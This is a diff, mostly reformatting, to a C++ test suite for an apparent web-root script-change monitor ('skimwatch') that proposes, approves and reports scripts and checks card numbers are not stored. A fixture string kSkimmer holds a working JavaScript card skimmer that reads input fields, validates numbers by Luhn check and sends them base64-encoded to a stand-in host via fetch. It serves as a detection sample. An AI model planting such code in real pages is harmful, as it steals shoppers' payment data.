@@ -41,7 +41,8 @@ constexpr char kChat[] = "function chat() { open('/session'); }\n";
 constexpr char kSkimmer[] =
     "function chat() { open('/session'); }\n"
     "function luhn(n) { let s = 0; for (let i = 0; i < n.length; i++) {\n"
-    "  let d = n[n.length - 1 - i] - '0'; if (i % 2 == 1) { d *= 2; if (d > 9) d -= 9; } s += d; }\n"
+    "  let d = n[n.length - 1 - i] - '0'; if (i % 2 == 1) { d *= 2; if (d > 9) d -= 9; } s += d; "
+    "}\n"
     "  return s % 10 == 0; }\n"
     "document.addEventListener('input', e => { const m = e.target.value.match(/[0-9]{13,16}/);\n"
     "  if (m && luhn(m[0])) fetch('https://cdn.example/p?' + btoa(m[0])); });\n";
@@ -64,9 +65,8 @@ class Scripts : public ::testing::Test {
     ASSERT_NO_FATAL_FAILURE(deployment_.StartCollector());
     ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
     ASSERT_TRUE(testing::WaitUntil([&] { return Changes().size() == 3; }));
-    ASSERT_THAT(Changes(),
-                UnorderedElementsAre("PROPOSED js/chat.js", "PROPOSED js/shop.js",
-                                     "PROPOSED checkout.html#inline-1"));
+    ASSERT_THAT(Changes(), UnorderedElementsAre("PROPOSED js/chat.js", "PROPOSED js/shop.js",
+                                                "PROPOSED checkout.html#inline-1"));
   }
 
   // Whole or not at all, as a deployment does it.
@@ -86,8 +86,8 @@ class Scripts : public ::testing::Test {
   std::vector<std::string> Changes(size_t from = 0) {
     std::vector<std::string> changes;
     for (const v1::Finding& finding : ChangeFindings()) changes.push_back(Describe(finding));
-    changes.erase(changes.begin(), changes.begin() + static_cast<std::ptrdiff_t>(
-                                                         std::min(from, changes.size())));
+    changes.erase(changes.begin(),
+                  changes.begin() + static_cast<std::ptrdiff_t>(std::min(from, changes.size())));
     return changes;
   }
 
@@ -111,17 +111,16 @@ class Scripts : public ::testing::Test {
   void Approve(const std::string& name) {
     const std::string hash =
         absl::BytesToHexString(Latest().at(name).script_change().current().sha256());
-    const testing::Result result = deployment_.Ctl(
-        {"scripts", "approve", name, hash, "--justification", "read by the test"});
+    const testing::Result result =
+        deployment_.Ctl({"scripts", "approve", name, hash, "--justification", "read by the test"});
     EXPECT_EQ(result.code, 0) << result.out << result.err;
   }
 
   void ApproveAll() {
     for (const char* name : {"js/chat.js", "js/shop.js", "checkout.html#inline-1"}) Approve(name);
     // The policy reaches the agent, which says so to the collector.
-    EXPECT_TRUE(testing::WaitUntil([&] {
-      return deployment_.AgentMetric("skimwatch_web_root_unapproved_scripts") == 0;
-    }));
+    EXPECT_TRUE(testing::WaitUntil(
+        [&] { return deployment_.AgentMetric("skimwatch_web_root_unapproved_scripts") == 0; }));
     EXPECT_TRUE(testing::WaitUntil([&] {
       const std::vector<v1::Agent> agents = deployment_.Agents();
       return agents.size() == 1 && static_cast<double>(agents[0].policy_version()) ==
@@ -183,9 +182,8 @@ TEST_F(Scripts, ARestartProposesNothingAgain) {
     ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
     ASSERT_NO_FATAL_FAILURE(WaitForLook());
     EXPECT_THAT(Changes(3), IsEmpty());
-    EXPECT_TRUE(testing::WaitUntil([&] {
-      return deployment_.AgentMetric("skimwatch_web_root_unapproved_scripts") == 0;
-    }));
+    EXPECT_TRUE(testing::WaitUntil(
+        [&] { return deployment_.AgentMetric("skimwatch_web_root_unapproved_scripts") == 0; }));
   }
 }
 
@@ -197,9 +195,8 @@ TEST_F(Scripts, WhatChangesWhileTheAgentIsDownIsReportedAtItsStart) {
   std::filesystem::remove(root_ + "/checkout.html");
   ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
   ASSERT_TRUE(testing::WaitUntil([&] { return Changes().size() >= 6; }));
-  EXPECT_THAT(Changes(3),
-              UnorderedElementsAre("CHANGED js/chat.js", "ADDED js/new.js",
-                                   "REMOVED checkout.html#inline-1"));
+  EXPECT_THAT(Changes(3), UnorderedElementsAre("CHANGED js/chat.js", "ADDED js/new.js",
+                                               "REMOVED checkout.html#inline-1"));
 }
 
 TEST_F(Scripts, WhatChangesWhileTheCollectorIsDownArrivesAfterwardsOnce) {
@@ -224,7 +221,8 @@ TEST_F(Scripts, ANumberInAScriptIsFoundAndKeptNowhere) {
   ASSERT_TRUE(deployment_.WaitForCards(1));
   ASSERT_EQ(deployment_.StopAgent(SIGTERM), 0);
   deployment_.ExpectEachCard(1, 1);
-  EXPECT_THAT(Latest().at("js/chat.js").script_change().diff(), Not(HasSubstr(CardNumber(0).substr(6))));
+  EXPECT_THAT(Latest().at("js/chat.js").script_change().diff(),
+              Not(HasSubstr(CardNumber(0).substr(6))));
   deployment_.ExpectNoNumberKept(1);
   const testing::Result diff = deployment_.Ctl({"scripts", "diff", "js/chat.js"});
   EXPECT_EQ(diff.code, 0) << diff.err;
